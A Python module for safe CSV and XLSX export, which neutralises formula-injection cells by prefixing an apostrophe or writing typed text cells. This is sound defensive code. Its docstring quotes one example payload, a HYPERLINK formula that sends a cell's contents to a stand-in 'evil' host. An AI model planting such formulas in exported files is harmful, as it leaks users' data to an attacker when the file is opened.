"""Cells a spreadsheet will not run: the one door every CSV and XLSX writer goes through.

A value imported from a CRM can be `=HYPERLINK("http://evil/?leak="&A1, "click")`; written
raw to a CSV or an XLSX, Excel or LibreOffice runs it as a formula when the file is
opened (CSV/formula injection, OWASP). So:

- CSV: a text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is written
  with a leading apostrophe, which spreadsheets show as text and never evaluate; a cell
  that is only a number (`-12.5`, `-1.234,5`, `+39`) is left alone, it runs nothing.
  Use `csv_writer(stream)` instead of `csv.writer(stream)`.
- XLSX: cells are typed, so the text is kept exactly as it is but written as a text cell
  (openpyxl would otherwise store a string starting with `=` as a formula).
  Use `xlsx_cell(sheet, value)` for every value of a sheet.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# A plain number in any locale's writing: sign, digits, group and decimal separators
# (. , ' and spaces, incl. no-break ones), an exponent, a percent sign.
_NUMBER = re.compile(r"[+-]?[\d.,' \u00a0\u202f]*\d(?:[eE][+-]?\d+)?\s?%?")


def neutralise(value: Any) -> Any:
    """The value as a CSV cell that no spreadsheet evaluates (non-text values unchanged)."""
    if (
        isinstance(value, str)
        and value.startswith(FORMULA_PREFIXES)
        and not _NUMBER.fullmatch(value)
    ):
        return "'" + value
    return value


class _SafeWriter:
    """csv.writer, with every cell neutralised."""

    def __init__(self, stream, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream, **options: Any) -> _SafeWriter:
    """Like `csv.writer(stream, **options)`, but no cell it writes runs as a formula."""
    return _SafeWriter(stream, **options)


def xlsx_cell(sheet, value: Any) -> Any:
    """The value for `sheet.append` (write-only openpyxl sheet): text that looks like a
    formula becomes a text cell, anything else is passed through."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return text_cell(sheet, value)
    return value


def text_cell(sheet, text: str):
    """A cell (to style or append) holding `text` as text, whatever it starts with."""
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=text)
    cell.data_type = "s"
    return cell
